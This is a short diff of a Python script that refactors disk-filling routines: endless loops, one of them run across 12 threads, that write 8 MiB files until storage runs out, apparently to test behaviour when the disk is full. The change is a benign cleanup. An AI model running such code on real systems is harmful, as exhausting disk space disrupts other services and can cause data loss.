@@ -118,24 +118,17 @@ import ctypes, os, threading
 import numpy as np
 block = bytes(1 << 20)
 
-def one_after_the_other():
+def one_after_the_other(k=0):
     n = 0
     while True:
         n += 1
-        with open(f"fill{n}", "wb") as file:
+        with open(f"fill{k}-{n}", "wb") as file:
             for _ in range(8):
                 file.write(block)
 
 def many_threads():
-    def fill(k):
-        n = 0
-        while True:
-            n += 1
-            with open(f"fill{k}-{n}", "wb") as file:
-                for _ in range(8):
-                    file.write(block)
     for k in range(12):
-        threading.Thread(target=fill, args=(k,)).start()
+        threading.Thread(target=one_after_the_other, args=(k,)).start()
     threading.Event().wait()
 
 def mapped():
